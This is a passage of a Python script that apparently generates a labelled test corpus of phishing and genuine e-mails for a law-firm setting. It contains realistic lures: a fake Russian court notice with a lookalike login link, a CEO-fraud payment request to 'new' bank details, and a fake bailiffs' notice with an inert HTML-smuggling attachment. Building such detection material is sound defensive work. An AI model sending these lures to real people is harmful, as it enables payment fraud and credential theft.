msg(A, s, "ru", "UTF-8 / QP, multipart/alternative", "Fake 'Мой арбитр' (arbitrazh courts e-filing) notice of a court ruling with credential link",
    "Sender my-arbitr-uvedomlenie.ru (real: my.arbitr.ru / kad.arbitr.ru); link to a fake login (kad-arbitr.online); case number format looks real; sent via a bulk mailer on a Selectel VPS.",
    "andrei.volkov@example.com", "2026-11-27 14:08:37", "MSK",
    ("mx.my-arbitr-uvedomlenie.ru", "188-120-239-41.selectel.ru", "188.120.239.41"), "robot@my-arbitr-uvedomlenie.ru",
    [("From", addr("Мой арбитр", "robot@my-arbitr-uvedomlenie.ru", "utf-8", "B")),
     ("To", "andrei.volkov@example.com"),
     ("Subject", ew("Определение о принятии искового заявления к производству по делу А40-241187/2026", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_uuid(s, "my-arbitr-uvedomlenie.ru")), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Уважаемый пользователь!

По делу № А40-241187/2026 (Арбитражный суд города Москвы) опубликован судебный акт:
Определение о принятии искового заявления к производству.

Истец: ООО «ТрансЛогистик Групп»
Ответчик: ООО «Экзампл Груп Консалтинг»

Предварительное судебное заседание назначено на 09.12.2026. Ознакомиться с определением и материалами дела можно в личном кабинете:
https://kad-arbitr.online/Card/A40-241187-2026

С уважением,
Сервис подачи документов «Мой арбитр»
""", cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="font-family:Arial;font-size:14px"><div style="max-width:600px">
<p style="background:#2a5a8c;color:#fff;padding:10px">Мой арбитр — уведомление</p>
<p>Уважаемый пользователь!</p>
<p>По делу № <b>А40-241187/2026</b> (Арбитражный суд города Москвы) опубликован судебный акт: <b>Определение о принятии искового заявления к производству</b>.</p>
<p>Истец: ООО «ТрансЛогистик Групп»<br>Ответчик: ООО «Экзампл Груп Консалтинг»</p>
<p>Предварительное судебное заседание назначено на 09.12.2026.</p>
<p><a href="https://kad-arbitr.online/Card/A40-241187-2026">Перейти в карточку дела</a></p>
<p>С уважением,<br>Сервис подачи документов «Мой арбитр»</p></div></body></html>
""", "html", cs="utf-8", cte="quoted-printable")]))

# ---------------------------------------------------------------- A39
s = "39-ru-bec-mailru-novye-rekvizity"
msg(A, s, "ru", "UTF-8 / base64", "BEC: 'Moscow office head' from a mail.ru address orders urgent payment to a counterparty's 'new' bank details",
    "Partner impersonation from a free mailer; claims to be on a plane; new recipient account at another bank (valid control key, valid INN) - all designed to pass a superficial check; asks not to call.",
    "olga.smirnova@examplegroup.eu", "2026-12-04 07:52:14", "MSK",
    ("smtp47.i.mail.ru", "smtp47.i.mail.ru", "95.163.41.88"), "a.volkov.msk@mail.ru",
    [("From", addr("Андрей Волков", "a.volkov.msk@mail.ru", "utf-8", "B")),
     ("To", "olga.smirnova@examplegroup.eu"),
     ("Subject", ew("Срочно: оплата по новым реквизитам", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@f%s.i.mail.ru>" % (hnum(s, "m", n=10) + "." + h(s, "x", n=12), hnum(s, "f", n=3))),
     ("X-Mailer", "Mail.Ru Mailer 1.0"), ("MIME-Version", "1.0")],
    Text("""Ольга, доброе утро.

Я в аэропорту, через час вылет, на связи буду только вечером. Пишу с личной почты - рабочая на ноутбуке не открывается.

Нужно сегодня до 12:00 оплатить счет ООО «Эксперт-Оценка» за судебную экспертизу по делу СеверСтройИнвест, иначе эксперт не передаст заключение в суд. Они сменили банк, старые реквизиты не использовать. Новые:

Получатель: ООО «Эксперт-Оценка»
ИНН %s, КПП 772401001
Р/с %s
Банк: АО «ТБанк», БИК %s
К/с 30101810145250000974
Сумма: 684 000,00 руб., без НДС
Назначение: Оплата по счету № 318 от 03.12.2026 за проведение судебной экспертизы

Платежку пришлите, пожалуйста, сюда. Звонить не нужно, я напишу, когда приземлюсь.

Андрей
""" % (RU_INN_FAKE, RU_ACC_FAKE, RU_BIK_T), cs="utf-8", cte="base64"),
    relay=["Received: by f%s.i.mail.ru with local (envelope-from <a.volkov.msk@mail.ru>)\n\tid 1tQ%s-00000002Wx-%s; {DATE}" % (hnum(s, "f", n=3), b32tok(s, "e", n=6), b32tok(s, "g", n=4)),
           "Received: by e.mail.ru with HTTP; {DATE}"])

# ---------------------------------------------------------------- A40
s = "40-ru-fssp-html-smuggling"
att40 = ("""<!DOCTYPE html><html><head><meta charset="windows-1251"><title>Postanovlenie FSSP</title></head>
<body style="font-family:Arial"><p>Загрузка документа... Если загрузка не началась, нажмите <a id="d" href="#">Скачать</a>.</p>
<script>
/* INERT TEST PLACEHOLDER: real HTML-smuggling samples assemble an archive from an embedded base64 blob
   and trigger a download. Here the blob is a harmless text. */
var b = atob("SU5FUlQgVEVTVCBQTEFDRUhPTERFUg==");
var blob = new Blob([b], {type: "application/octet-stream"});
document.getElementById("d").href = URL.createObjectURL(blob);
document.getElementById("d").download = "Postanovlenie_77053-26.txt";
</script></body></html>""").encode("windows-1251")
msg(A, s, "ru", "windows-1251 / QP + HTML attachment (RFC 2047 filename)", "Fake bailiffs' service (FSSP) 'enforcement proceedings opened' with an HTML-smuggling attachment",
    "FSSP notices go through Gosuslugi, not e-mail attachments; sender fssp-uvedomlenie.ru (real: fssp.gov.ru); HTML attachment builds a download from an embedded blob (smuggling technique, inert placeholder); sent from a compromised mailbox of a small company.",
    "irina.kuznetsova@example.com", "2026-11-30 11:33:02", "MSK",
    ("mail.stroymaster-nn.ru", "mail.stroymaster-nn.ru", "185.104.113.61"), "info@stroymaster-nn.ru",
    [("From", addr("ФССП России", "info@stroymaster-nn.ru", "windows-1251", "B")),
     ("Reply-To", "uvedomlenie@fssp-uvedomlenie.ru"),
     ("To", "irina.kuznetsova@example.com"),
     ("Subject", ew("Постановление о возбуждении исполнительного производства № 77053/26/77001-ИП", "windows-1251", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "stroymaster-nn.ru")), ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Уважаемый(ая) Ирина Сергеевна!

Судебным приставом-исполнителем ОСП по Центральному АО № 1 ГУФССП России по г. Москве возбуждено исполнительное производство № 77053/26/77001-ИП о взыскании задолженности в размере 48 217,00 руб.

Срок для добровольного исполнения требований - 5 дней с момента получения постановления. По истечении срока будет взыскан исполнительский сбор и могут быть применены меры принудительного исполнения, включая ограничение на выезд из Российской Федерации.

Постановление прилагается.

Отделение судебных приставов по Центральному АО № 1
""", cs="windows-1251", cte="quoted-printable"),
        Att(att40, "text/html", "Постановление_77053-26-77001-ИП.html", fn_cs="windows-1251")]))
# ============================================================= BUSINESS
B = "business"

# ---------------------------------------------------------------- B01
s = "01-de-lieferant-rechnung"
mx, rel = o365(s, "02-FR2|fr2deu01on2098", "40.107.135.98", pfx="FR2P281MB")
msg(B, s, "de", "ISO-8859-1 / QP + PDF", "Regular invoice from the supplier's accounting mailbox (genuine domain, genuine tenant)",
    "Known supplier, genuine domain lieferant-gmbh.de, usual bank account (Commerzbank), invoice matches an order; normal payment terms.",
    "thomas.becker@example.com", "2026-11-02 08:14:37", "CET", mx, "rechnungen@lieferant-gmbh.de",
    [("From", addr("Lieferant GmbH - Buchhaltung", "rechnungen@lieferant-gmbh.de")),
     ("To", addr("Becker, Thomas", "thomas.becker@example.com")),
     ("Subject", "Rechnung RE-2026-11873 zu Ihrer Bestellung 4500018812"),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "FR2P281MB")), ("Content-Language", "de-DE"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-11873 vom 02.11.2026 zu Ihrer Bestellung 4500018812 (12 Notebooks inkl. Dockingstation, Lieferung vom 29.10.2026).

Rechnungsbetrag: 14.286,40 EUR
Zahlbar bis 02.12.2026 ohne Abzug oder bis 16.11.2026 mit 2 %% Skonto.

Bankverbindung: Commerzbank AG, IBAN %s, BIC COBADEFFXXX

Die Rechnung steht Ihnen zusätzlich als XRechnung im Kundenportal zur Verfügung.

Mit freundlichen Grüßen
Ihre Buchhaltung

Lieferant GmbH | Frankfurter Straße 112 | 65760 Eschborn
Amtsgericht Frankfurt am Main HRB 84417 | Geschäftsführer: Dr. Ralf Engel
""" % fmt_iban(IB["lief_old"]), cs="iso-8859-1", cte="quoted-printable"),
        Att(pdf(["Lieferant GmbH - Frankfurter Strasse 112 - 65760 Eschborn", "", "RECHNUNG RE-2026-11873  vom 02.11.2026",
                 "Kunde 40817 - Example Group, Frankfurt am Main", "Bestellung 4500018812",
                 "12 x Notebook 14\" inkl. Dockingstation", "Netto 12.005,38 EUR  USt 19% 2.281,02 EUR  Brutto 14.286,40 EUR",
                 "Commerzbank AG  IBAN " + fmt_iban(IB["lief_old"]), "[PLACEHOLDER - business sample]"], "RE-2026-11873"),
            "application/pdf", "RE-2026-11873.pdf")]), relay=rel)

# ---------------------------------------------------------------- B02
s = "02-de-lieferant-bankwechsel-echt"
mx, rel = o365(s, "03-FR2|fr2deu01on2131", "40.107.135.131", pfx="FR2P281MB")
msg(B, s, "de", "UTF-8 / QP + PDF", "GENUINE supplier bank-detail change, announced in advance with signed letter and request for call-back verification",
    "Genuine domain and known contact, same Microsoft 365 tenant as earlier invoices; change is effective in the future (1 Jan 2027), open invoices stay on the old account, and the supplier itself asks for verification via the known phone number - typical of a legitimate change.",
    "thomas.becker@example.com", "2026-12-01 10:05:12", "CET", mx, "s.maier@lieferant-gmbh.de",
    [("From", addr("Maier, Stefan", "s.maier@lieferant-gmbh.de")),
     ("To", addr("Becker, Thomas", "thomas.becker@example.com")), ("Cc", "rechnungen@lieferant-gmbh.de"),
     ("Subject", ew("Änderung unserer Bankverbindung zum 01.01.2027", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "FR2P281MB")), ("Content-Language", "de-DE"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Sehr geehrter Herr Becker,

wir stellen zum Jahreswechsel unsere Hausbankverbindung um. Ab dem 01.01.2027 lautet unsere Bankverbindung:

Frankfurter Sparkasse
IBAN %s
BIC HELADEF1822

Rechnungen mit Rechnungsdatum bis 31.12.2026 begleichen Sie bitte wie gewohnt auf unser Konto bei der Commerzbank. Das unterschriebene Schreiben unserer Geschäftsführung finden Sie im Anhang; das Original geht Ihnen zusätzlich per Post zu.

Aus Sicherheitsgründen bitten wir Sie, die Änderung vor der Umstellung Ihrer Stammdaten telefonisch bei unserer Buchhaltung unter der Ihnen bekannten Rufnummer 06196 7704-0 (Frau Lorenz) bestätigen zu lassen. Bitte verwenden Sie hierfür nicht die Kontaktdaten aus dieser E-Mail.

Vielen Dank und freundliche Grüße

Stefan Maier
Key Account Management
Lieferant GmbH | Frankfurter Straße 112 | 65760 Eschborn
""" % fmt_iban(IB["lief_new"]), cs="utf-8", cte="quoted-printable"),
        Att(pdf(["Lieferant GmbH - Frankfurter Strasse 112 - 65760 Eschborn", "", "Eschborn, 30.11.2026", "",
                 "Aenderung unserer Bankverbindung zum 01.01.2027", "Neu: Frankfurter Sparkasse, IBAN " + fmt_iban(IB["lief_new"]),
                 "BIC HELADEF1822", "Bis 31.12.2026 weiterhin: Commerzbank AG, IBAN " + fmt_iban(IB["lief_old"]), "",
                 "Dr. Ralf Engel, Geschaeftsfuehrer", "[PLACEHOLDER - business sample]"], "Bankverbindung 2027"),
            "application/pdf", "Lieferant_GmbH_Bankverbindung_ab_2027.pdf")]), relay=rel)

# ---------------------------------------------------------------- B03
s = "03-de-intern-dringende-anderkonto-auszahlung"
msg(B, s, "de", "UTF-8 / QP, multipart/alternative", "GENUINE urgent internal payment instruction from the Managing Partner (client escrow release after notary's maturity notice)",
    "Internal mail via mail-int01 from the real mailbox; follows the firm's process: refers to the notary's Fälligkeitsmitteilung and the DMS file, payee data only from the notarial contract, second approval in e-banking by the CFO; urgent but not secret.",
    "petra.wagner@example.com", "2026-11-24 11:18:40", "CET", INTERNAL, "klaus.hoffmann@example.com",
    [("From", addr("Hoffmann, Klaus Dr.", "klaus.hoffmann@example.com")),
     ("To", addr("Wagner, Petra", "petra.wagner@example.com")),
     ("Cc", addr("Krüger, Sabine", "sabine.krueger@example.com", "utf-8", "Q") + ", " + addr("Schneider, Markus", "markus.schneider@example.com")),
     ("Subject", ew("Dringend: Auszahlung Anderkonto Rheinhafen / Kaufpreis – Fälligkeit liegt vor", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@FRA-EXCH02.corp.example.com>" % h(s, "x", n=32).upper()),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("Importance", "high"), ("X-Priority", "1"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Liebe Frau Wagner,

die Fälligkeitsmitteilung von Notar Dr. Albrecht zur UR 1622/2026 (Rheinhafen Immobilien AG ./. Mainufer Projekt GmbH) ist heute Vormittag eingegangen und liegt in der Akte 2026-0311 im DMS.

Bitte veranlassen Sie heute noch die Auszahlung des Kaufpreises in Höhe von 2.350.000,00 EUR vom Anderkonto an die Verkäuferin. Die Empfängerbankverbindung übernehmen Sie bitte wie üblich ausschließlich aus § 4 des notariellen Kaufvertrags (nicht aus E-Mails). Frau Krüger gibt die Zahlung im Banking als Zweitunterzeichnerin frei - Sabine, danke vorab.

Hintergrund der Eile: Der Besitzübergang ist für morgen 9 Uhr vereinbart, die Schlüsselübergabe hängt an der Zahlungsbestätigung.

Bei Rückfragen erreichen Sie mich bis 14 Uhr im Büro (Durchwahl -100).

Viele Grüße
Klaus Hoffmann
""", cs="utf-8", cte="quoted-printable"),
        Text("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family:Calibri,sans-serif;font-size:11pt">
<p>Liebe Frau Wagner,</p>
<p>die Fälligkeitsmitteilung von Notar Dr. Albrecht zur UR 1622/2026 (Rheinhafen Immobilien AG ./. Mainufer Projekt GmbH) ist heute Vormittag eingegangen und liegt in der Akte 2026-0311 im DMS.</p>
<p>Bitte veranlassen Sie heute noch die Auszahlung des Kaufpreises in Höhe von <b>2.350.000,00 EUR</b> vom Anderkonto an die Verkäuferin. Die Empfängerbankverbindung übernehmen Sie bitte wie üblich <u>ausschließlich aus § 4 des notariellen Kaufvertrags</u> (nicht aus E-Mails). Frau Krüger gibt die Zahlung im Banking als Zweitunterzeichnerin frei &ndash; Sabine, danke vorab.</p>
<p>Hintergrund der Eile: Der Besitzübergang ist für morgen 9 Uhr vereinbart, die Schlüsselübergabe hängt an der Zahlungsbestätigung.</p>
<p>Bei Rückfragen erreichen Sie mich bis 14 Uhr im Büro (Durchwahl -100).</p>
<p>Viele Grüße<br>Klaus Hoffmann</p></div></body></html>
""", "html", cs="utf-8", cte="quoted-printable")]),
    relay=internal_rel(s, "10.20.14.21", "FRA-NB-0107"), delay=2)

# ---------------------------------------------------------------- B04
s = "04-de-kollegin-privat-krankmeldung-webde"
msg(B, s, "de", "UTF-8 / QP", "GENUINE message from a colleague's private web.de address (sick, laptop at office)",
    "Free-mailer sender with a colleague's name, but no payment, credential or data request - only sick note and appointment handling; content consistent with internal knowledge.",
    "markus.schneider@example.com", "2026-11-16 07:12:54", "CET",
    ("mout.web.de", "mout.web.de", "217.72.192.78"), "nadine.koch83@web.de",
    [("From", addr("Nadine Koch", "nadine.koch83@web.de")),
     ("To", addr("Markus Schneider", "markus.schneider@example.com")), ("Cc", "jan.richter@example.com"),
     ("Subject", "Krankmeldung heute + Termine"),
     ("Date", "{DATE}"), ("Message-ID", "<trinity-%s-%s@3c-app-webde-bs%s>" % (h(s, "a", n=8) + "-" + h(s, "b", n=4) + "-" + h(s, "c", n=4) + "-" + h(s, "d", n=4), h(s, "e", n=12), hnum(s, "n", n=2))),
     ("Importance", "normal"), ("Sensitivity", "Normal"), ("X-UI-Message-Type", "mail"), ("MIME-Version", "1.0")],
    Text("""Guten Morgen Herr Schneider,

ich habe mir leider einen Magen-Darm-Infekt eingefangen und bleibe heute und voraussichtlich morgen zu Hause. Die AU schicke ich Frau Fischer, sobald ich sie habe.

Mein Laptop steht noch im Büro, deshalb schreibe ich von privat. Könnten Sie bitte Frau Schulz oder Frau Hahn am Empfang bitten, den Termin mit Herrn Dr. Vogel heute um 15 Uhr auf Donnerstag zu verlegen? Die Unterlagen für die Besprechung liegen ausgedruckt in der blauen Mappe auf meinem Schreibtisch.

Jan, nur zur Info: Mein Token liegt in der Schreibtischschublade, bitte nichts sperren.

Viele Grüße
Nadine Koch
""", cs="utf-8", cte="quoted-printable"),
    relay=["Received: from [192.168.2.117] ([84.159.204.31]) by web-mail.web.de\n\t(3c-app-webde-bs%s) via HTTP; {DATE}" % hnum(s, "n", n=2)])

# ---------------------------------------------------------------- B05
s = "05-de-newsletter-beck-aktuell"
msg(B, s, "de", "UTF-8 / QP, multipart/alternative", "Subscribed legal newsletter (beck-aktuell) sent through an ESP",
    "Legitimate bulk mail the associate subscribed to: consistent List-Id/List-Unsubscribe, ESP infrastructure, tracking links on the publisher's own click domain, no requests.",
    "miriam.schulz@example.com", "2026-11-20 06:30:02", "CET",
    ("mx2417.inxserver.de", "mx2417.inxserver.de", "91.227.41.117"), "bounce-%s-miriam.schulz=example.com@mail.beck.de" % hnum(s, "b", n=8),
    [("From", addr("beck-aktuell", "newsletter@beck.de")),
     ("To", "miriam.schulz@example.com"),
     ("Subject", ew("beck-aktuell Newsletter vom 20.11.2026: beA-Ausgangskontrolle, Mietpreisbremse, Schiedsverfahren", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@mail.beck.de>" % (hnum(s, "m", n=12), h(s, "x", n=12))),
     ("List-Id", "beck-aktuell Newsletter <newsletter.beck.de>"),
     ("List-Unsubscribe", "<https://click.beck.de/u/%s>, <mailto:unsubscribe-%s@mail.beck.de>" % (h(s, "u", n=20), hnum(s, "u", n=8))),
     ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""beck-aktuell - Newsletter vom 20.11.2026

BGH: Anforderungen an die Ausgangskontrolle beim beA-Versand
Der BGH präzisiert, wann Anwältinnen und Anwälte den Eingang der automatisierten Eingangsbestätigung kontrollieren müssen.
https://click.beck.de/c/%s

Mietpreisbremse: Verlängerung bis 2029 im Bundesgesetzblatt verkündet
https://click.beck.de/c/%s

Schiedsverfahrensrecht: Bundestag beschließt Modernisierungsgesetz
https://click.beck.de/c/%s

Sie erhalten diesen Newsletter, weil Sie sich mit miriam.schulz@example.com angemeldet haben. Abmelden: https://click.beck.de/u/%s
Verlag C.H.BECK oHG, Wilhelmstraße 9, 80801 München
""" % (h(s, 1, n=20), h(s, 2, n=20), h(s, 3, n=20), h(s, "u", n=20)), cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="margin:0;background:#f0f0f0"><table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="640" style="background:#fff;font-family:Georgia,serif"><tr><td style="background:#b30f24;color:#fff;padding:16px 24px;font-size:22px">beck-aktuell</td></tr>
<tr><td style="padding:20px 24px"><p style="color:#666;font-family:Arial;font-size:12px">Newsletter vom 20.11.2026</p>
<h3><a href="https://click.beck.de/c/%s" style="color:#222">BGH: Anforderungen an die Ausgangskontrolle beim beA-Versand</a></h3>
<p>Der BGH präzisiert, wann Anwältinnen und Anwälte den Eingang der automatisierten Eingangsbestätigung kontrollieren müssen.</p>
<h3><a href="https://click.beck.de/c/%s" style="color:#222">Mietpreisbremse: Verlängerung bis 2029 im Bundesgesetzblatt verkündet</a></h3>
<h3><a href="https://click.beck.de/c/%s" style="color:#222">Schiedsverfahrensrecht: Bundestag beschließt Modernisierungsgesetz</a></h3>
<p style="font-family:Arial;font-size:11px;color:#888">Sie erhalten diesen Newsletter, weil Sie sich mit miriam.schulz@example.com angemeldet haben. <a href="https://click.beck.de/u/%s">Abmelden</a><br>Verlag C.H.BECK oHG, Wilhelmstraße 9, 80801 München</p>
<img src="https://click.beck.de/o/%s" width="1" height="1" alt=""></td></tr></table></td></tr></table></body></html>
""" % (h(s, 1, n=20), h(s, 2, n=20), h(s, 3, n=20), h(s, "u", n=20), h(s, "o", n=20)), "html", cs="utf-8", cte="quoted-printable")]))

# ---------------------------------------------------------------- B06
s = "06-de-notar-kaufvertragsentwurf"
msg(B, s, "de", "ISO-8859-15 / base64 + PDF", "GENUINE notary's office sends draft purchase contract as PDF",
    "Known notary domain notar-albrecht.de sending via its IONOS mailbox; expected draft for an existing matter; plain PDF, no log-in requested.",
    "markus.schneider@example.com", "2026-11-18 16:44:09", "CET",
    ("mout.kundenserver.de", "mout.kundenserver.de", "212.227.126.135"), "kanzlei@notar-albrecht.de",
    [("From", addr("Notariat Dr. Albrecht", "kanzlei@notar-albrecht.de")),
     ("To", addr("Markus Schneider", "markus.schneider@example.com")), ("Cc", "s.kessler@kessler-immobilien.de"),
     ("Subject", ew("Entwurf Kaufvertrag Hanauer Landstraße 204 - UR-Entwurf 1843/2026", "iso-8859-15", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_uuid(s, "notar-albrecht.de")),
     ("User-Agent", "Mozilla Thunderbird"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Sehr geehrter Herr Rechtsanwalt Schneider,

in der Anlage übersende ich Ihnen im Auftrag von Herrn Notar Dr. Albrecht den Entwurf des Kaufvertrags über das Grundstück Hanauer Landstraße 204, Frankfurt am Main (Grundbuch von Frankfurt Bezirk 28, Blatt 4471), mit der Bitte um Prüfung und Rückmeldung bis zum 23.11.2026.

Der Beurkundungstermin ist für Donnerstag, 26.11.2026, 10:00 Uhr in unseren Räumen vorgesehen. Bitte denken Sie daran, dass die Beteiligten gültige Ausweisdokumente mitbringen.

Mit freundlichen Grüßen

i. A. Monika Berger
Notarfachangestellte
Notariat Dr. Friedrich Albrecht
Bockenheimer Landstraße 51 · 60325 Frankfurt am Main
Tel. 069 971 244-0
""", cs="iso-8859-15", cte="base64"),
        Att(pdf(["Notar Dr. Friedrich Albrecht - Entwurf UR 1843/2026", "", "Kaufvertrag", "Grundstueck Hanauer Landstrasse 204, Frankfurt am Main",
                 "Grundbuch von Frankfurt Bezirk 28 Blatt 4471", "", "ENTWURF - Stand 18.11.2026", "[PLACEHOLDER - business sample]"],
                "Entwurf UR 1843-2026"), "application/pdf", "Entwurf_UR_1843-2026_Kaufvertrag.pdf")]))

# ---------------------------------------------------------------- B07
s = "07-de-mandantenbeschwerde-rheinhafen"
mx, rel = o365(s, "04-FR2|fr2deu01on2073", "40.107.135.73", pfx="FR3P281MB")
msg(B, s, "de", "windows-1252 / QP", "GENUINE client complaint about billing and responsiveness",
    "Known client contact on his company's own Microsoft 365 tenant; angry tone and urgency, but a complaint - no payment or credential request.",
    "klaus.hoffmann@example.com", "2026-11-27 18:02:33", "CET", mx, "c.vogel@rheinhafen-immobilien.de",
    [("From", addr("Vogel, Carsten Dr.", "c.vogel@rheinhafen-immobilien.de")),
     ("To", addr("Hoffmann, Klaus Dr.", "klaus.hoffmann@example.com")), ("Cc", "markus.schneider@example.com"),
     ("Subject", ew("Ihre Rechnung Nr. 2026-10-0412 – so nicht akzeptabel", "windows-1252", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "FR3P281MB")), ("Content-Language", "de-DE"), ("MIME-Version", "1.0")],
    Text("""Sehr geehrter Herr Dr. Hoffmann,

ich bin ehrlich gesagt verärgert. Ihre Rechnung Nr. 2026-10-0412 weist für Oktober 61,5 Stunden aus, davon allein 14 Stunden für "Abstimmung intern". Das war so nicht besprochen; unser Budget für die Transaktion lag bei 40 Stunden pro Monat.

Hinzu kommt, dass ich seit Dienstag dreimal versucht habe, Herrn Schneider zu erreichen - ohne Rückruf. Bei einem Vollzug in dieser Woche ist das für uns nicht hinnehmbar.

Ich erwarte bis Montag eine aufgeschlüsselte Leistungsübersicht und einen Vorschlag, wie Sie mit der Überschreitung umgehen. Bis dahin werden wir die Rechnung nicht anweisen.

Mit freundlichen Grüßen

Dr. Carsten Vogel
Finanzvorstand (CFO)
Rheinhafen Immobilien AG · Rheinallee 88 · 55118 Mainz
""", cs="windows-1252", cte="quoted-printable"), relay=rel)

# ---------------------------------------------------------------- B08
s = "08-de-juris-passwort-zuruecksetzen"
msg(B, s, "de", "UTF-8 / QP, multipart/alternative", "GENUINE password-reset e-mail from the legal-research service juris, requested by the user",
    "Real service domain juris.de sending from its own mail server; links only to www.juris.de; short validity; 'if you did not request this, ignore' - no pressure, no credential form in the mail.",
    "miriam.schulz@example.com", "2026-11-10 14:22:51", "CET",
    ("mail2.juris.de", "mail2.juris.de", "195.145.240.22"), "noreply@juris.de",
    [("From", addr("juris Kundenservice", "noreply@juris.de")),
     ("To", "miriam.schulz@example.com"),
     ("Subject", ew("Ihr juris Passwort zurücksetzen", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s.JavaMail.jportal@juris.de>" % (hnum(s, "m", n=9), hnum(s, "t", n=13))),
     ("Auto-Submitted", "auto-generated"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Sehr geehrte Frau Schulz,

Sie haben soeben das Zurücksetzen des Passworts für Ihre juris Kennung angefordert.

Über folgenden Link können Sie ein neues Passwort vergeben. Der Link ist 60 Minuten gültig:
https://www.juris.de/jportal/portal/page/passwort-reset?token=%s

Falls Sie diese Anfrage nicht gestellt haben, können Sie diese E-Mail ignorieren. Ihr bisheriges Passwort bleibt dann unverändert.

Ihr juris Kundenservice
juris GmbH, Am Stockplatz 6, 66111 Saarbrücken
""" % h(s, "tok", n=40), cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="font-family:Arial;font-size:14px;color:#222"><p><img src="https://www.juris.de/jportal/cms/remote_media/media/juris_logo.png" alt="juris" height="30"></p>
<p>Sehr geehrte Frau Schulz,</p><p>Sie haben soeben das Zurücksetzen des Passworts für Ihre juris Kennung angefordert.</p>
<p><a href="https://www.juris.de/jportal/portal/page/passwort-reset?token=%s">Neues Passwort vergeben</a> (60 Minuten gültig)</p>
<p>Falls Sie diese Anfrage nicht gestellt haben, können Sie diese E-Mail ignorieren. Ihr bisheriges Passwort bleibt dann unverändert.</p>
<p>Ihr juris Kundenservice<br><span style="font-size:11px;color:#777">juris GmbH, Am Stockplatz 6, 66111 Saarbrücken</span></p></body></html>
""" % h(s, "tok", n=40), "html", cs="utf-8", cte="quoted-printable")]), delay=2)
# ---------------------------------------------------------------- B09
s = "09-en-microsoft-entra-guest-invitation"
msg(B, s, "en", "UTF-8 / QP, multipart/alternative", "GENUINE Microsoft Entra B2B guest invitation from a client's tenant (invites@microsoft.com)",
    "Real Microsoft sender and infrastructure; the client announced the data-room invitation; links go to invitations.microsoft.com / myapps.microsoft.com; standard 'block future invitations' footer. Looks phish-like but is genuine.",
    "julia.weber@example.com", "2026-11-26 09:31:18", "UTC",
    ("DUZPR83CU001.outbound.protection.outlook.com", "mail-northeuropeazon11012034.outbound.protection.outlook.com", "52.101.66.34"),
    "invites@microsoft.com",
    [("From", addr("Meridian Estates Ltd via Microsoft", "invites@microsoft.com")),
     ("To", "julia.weber@example.com"),
     ("Subject", "Rebecca Lang invited you to access applications within their organization"),
     ("Date", "{DATE}"), ("Message-ID", "<%s@%s>" % (h(s, "m", n=32), "DB8P191MB0826.EURP191.PROD.OUTLOOK.COM")),
     ("X-MS-Exchange-Organization-AuthAs", None), ("Content-Language", "en-US"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Rebecca Lang (rebecca.lang@meridian-estates.co.uk) invited you to access applications within their organization.

Organization: Meridian Estates Ltd
Domain: meridianestates.onmicrosoft.com

Message from the sender:
Julia - this is the guest access for the Project Alder data room, as discussed on Tuesday. Best, Rebecca

If you accept this invitation, you'll be sent to https://myapps.microsoft.com/?tenantid=%s

Accept invitation: https://invitations.microsoft.com/redeem/?tenant=%s&user=%s&ticket=%s

Block future invitations from this organization: https://invitations.microsoft.com/Block?tenant=%s

This invitation email is from Meridian Estates Ltd (meridianestates.onmicrosoft.com) and may include advertising content. Meridian Estates Ltd has not provided a link to their privacy statement for you to review.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""" % (h(s, "t1", n=8) + "-" + h(s, "t2", n=4) + "-" + h(s, "t3", n=4) + "-" + h(s, "t4", n=4) + "-" + h(s, "t5", n=12),
       h(s, "t1", n=8) + "-" + h(s, "t2", n=4) + "-" + h(s, "t3", n=4) + "-" + h(s, "t4", n=4) + "-" + h(s, "t5", n=12),
       h(s, "u", n=8) + "-" + h(s, "u2", n=4) + "-" + h(s, "u3", n=4) + "-" + h(s, "u4", n=4) + "-" + h(s, "u5", n=12),
       h(s, "tk", n=44), h(s, "t1", n=8) + "-" + h(s, "t2", n=4) + "-" + h(s, "t3", n=4) + "-" + h(s, "t4", n=4) + "-" + h(s, "t5", n=12)),
             cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="font-family:Segoe UI,Arial;font-size:14px;color:#323130"><table width="520" cellpadding="20"><tr><td>
<p style="font-size:20px">Rebecca Lang invited you to access applications within their organization</p>
<p>Organization: <b>Meridian Estates Ltd</b><br>Domain: meridianestates.onmicrosoft.com</p>
<p style="background:#f3f2f1;padding:10px">Julia - this is the guest access for the Project Alder data room, as discussed on Tuesday. Best, Rebecca</p>
<p><a href="https://invitations.microsoft.com/redeem/?tenant=%s&amp;ticket=%s" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Accept invitation</a></p>
<p style="font-size:12px"><a href="https://invitations.microsoft.com/Block?tenant=%s">Block future invitations</a> from this organization.</p>
